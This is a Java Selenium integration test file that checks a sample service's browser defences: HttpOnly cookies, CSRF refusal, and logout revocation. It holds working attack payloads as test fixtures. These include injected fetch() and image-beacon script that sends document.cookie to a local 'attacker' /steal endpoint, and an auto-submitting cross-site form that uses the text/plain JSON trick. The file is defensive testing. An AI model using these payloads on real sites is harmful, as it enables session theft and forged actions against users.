package dev.bulwark.samples.service;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.bulwark.testsupport.RequiresService;
import dev.bulwark.testsupport.Service;
import java.io.File;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.BooleanSupplier;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.Cookie;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;

/**
 * The XSS-prevention proofs in a real browser (Debian's headless Chromium driven by Selenium
 * through /usr/bin/chromedriver): page script cannot read the auth cookies, an injected script
 * cannot send them elsewhere, a cross-site form post is refused, logout really ends the session.
 */
@RequiresService(Service.CHROMIUM)
class BrowserSecurityIT {

    static final String PASSWORD = "browser-test-password";

    @TempDir
    static Path dataDir;
    static HardenedService service;
    static HttpServer attacker;
    static String base;
    static String evil;
    static final List<String> stolen = new CopyOnWriteArrayList<>();

    @TempDir
    Path profile;
    ChromeDriver driver;

    @BeforeAll
    static void start() throws Exception {
        service = HardenedService.start(Map.of("PORT", "0", "DATA_DIR", dataDir.toString(), "DB_POOL_SIZE", "2",
                "DB_MAX_OVERFLOW", "3"), PASSWORD);
        base = service.url();
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        evil = "http://127.0.0.1:" + attacker.getAddress().getPort();
        attacker.createContext("/steal", ex -> {
            stolen.add(ex.getRequestURI().getRawQuery() + " cookie=" + ex.getRequestHeaders().getFirst("Cookie"));
            ex.sendResponseHeaders(204, -1);
            ex.close();
        });
        attacker.createContext("/evil", ex -> {
            // A cross-site form post (text/plain JSON trick) that auto-submits to the service.
            String html = "<!doctype html><html><body><form id='f' method='POST' enctype='text/plain' action='" + base
                    + "/api/notes'><input name='{\"text\":\"pwned\",\"x\":\"' value='\"}'></form>"
                    + "<script>document.getElementById('f').submit();</script></body></html>";
            byte[] body = html.getBytes(StandardCharsets.UTF_8);
            ex.getResponseHeaders().set("Content-Type", "text/html");
            ex.sendResponseHeaders(200, body.length);
            try (OutputStream out = ex.getResponseBody()) {
                out.write(body);
            }
        });
        attacker.start();
    }

    @AfterAll
    static void stop() {
        attacker.stop(0);
        service.close();
    }

    @BeforeEach
    void browser() {
        ChromeDriverService driverService = new ChromeDriverService.Builder()
                .usingDriverExecutable(new File("/usr/bin/chromedriver")).usingAnyFreePort().build();
        ChromeOptions options = new ChromeOptions();
        options.setBinary("/usr/bin/chromium");
        options.addArguments("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-quic",
                "--user-data-dir=" + profile);
        driver = new ChromeDriver(driverService, options);
        driver.manage().timeouts().pageLoadTimeout(Duration.ofSeconds(30));
    }

    @AfterEach
    void quit() {
        driver.quit();
    }

    static void waitFor(String what, BooleanSupplier condition) throws InterruptedException {
        long end = System.nanoTime() + Duration.ofSeconds(15).toNanos();
        while (!condition.getAsBoolean()) {
            if (System.nanoTime() > end) {
                throw new AssertionError("timed out waiting for: " + what);
            }
            Thread.sleep(50);
        }
    }

    void logInThroughThePage() throws InterruptedException {
        driver.get(base + "/");
        driver.findElement(By.id("password")).sendKeys(PASSWORD);
        driver.findElement(By.id("login-button")).click();
        waitFor("the page shows the signed-in user", () -> "demo".equals(driver.findElement(By.id("who")).getText()));
    }

    Object script(String js) {
        return ((JavascriptExecutor) driver).executeAsyncScript(js);
    }

    static long notes() throws Exception {
        try (Connection c = service.dataSource().getConnection(); Statement st = c.createStatement();
                ResultSet rs = st.executeQuery("SELECT COUNT(*) FROM notes")) {
            rs.next();
            return rs.getLong(1);
        }
    }

    @Test
    void pageScriptCannotReadTheAuthCookies() throws Exception {
        logInThroughThePage();

        String visible = (String) ((JavascriptExecutor) driver).executeScript("return document.cookie;");
        assertThat(visible).contains("__Host-csrf=").doesNotContain("__Host-access_token").doesNotContain("__Secure-refresh_token");
        Cookie access = driver.manage().getCookieNamed("__Host-access_token");
        assertThat(access).as("the browser holds the access cookie").isNotNull();
        assertThat(access.isHttpOnly()).isTrue();
        assertThat(access.isSecure()).isTrue();
        assertThat(access.getSameSite()).isEqualTo("Strict");
        assertThat(visible).doesNotContain(access.getValue());
    }

    @Test
    void anInjectedScriptCannotSendTheCookiesElsewhere() throws Exception {
        logInThroughThePage();
        String token = driver.manage().getCookieNamed("__Host-access_token").getValue();

        Object outcome = script("const done = arguments[arguments.length - 1];"
                + "fetch('" + evil + "/steal?c=' + encodeURIComponent(document.cookie), {mode: 'no-cors', credentials: 'include'})"
                + ".then(() => done('sent'), e => done('blocked: ' + e));");
        ((JavascriptExecutor) driver).executeScript("new Image().src = '" + evil + "/steal?img=' + encodeURIComponent(document.cookie);");
        Thread.sleep(500);

        assertThat(outcome.toString()).startsWith("blocked");
        for (String request : stolen) {
            assertThat(request).doesNotContain(token).doesNotContain("access_token");
        }
        driver.get(evil + "/steal?probe=1");
        assertThat(stolen).anySatisfy(r -> assertThat(r).startsWith("probe=1 cookie=null"));
    }

    @Test
    void aCrossSiteFormPostIsRefused() throws Exception {
        logInThroughThePage();
        long before = notes();

        driver.get(evil + "/evil");
        waitFor("the form post answered", () -> driver.getPageSource().contains("\"error\""));

        assertThat(driver.getPageSource()).containsAnyOf("missing_token", "csrf_origin", "csrf_token");
        assertThat(notes()).isEqualTo(before);
        driver.get(base + "/");
        driver.findElement(By.id("note-text")).sendKeys("from the real page");
        driver.findElement(By.id("note-button")).click();
        waitFor("the page's own note is saved", () -> driver.findElement(By.id("status")).getText().equals("note: 201"));
        assertThat(notes()).isEqualTo(before + 1);
    }

    @Test
    void logoutReallyEndsTheSession() throws Exception {
        logInThroughThePage();
        String token = driver.manage().getCookieNamed("__Host-access_token").getValue();

        driver.findElement(By.id("logout-button")).click();
        waitFor("the page shows nobody", () -> "nobody".equals(driver.findElement(By.id("who")).getText()));

        assertThat(driver.manage().getCookieNamed("__Host-access_token")).isNull();
        assertThat(driver.manage().getCookieNamed("__Host-csrf")).isNull();
        HttpResponse<String> replay = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(base + "/api/me"))
                .header("Authorization", "Bearer " + token).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(replay.statusCode()).isEqualTo(401);
        assertThat(replay.body()).contains("token_revoked");
    }
}
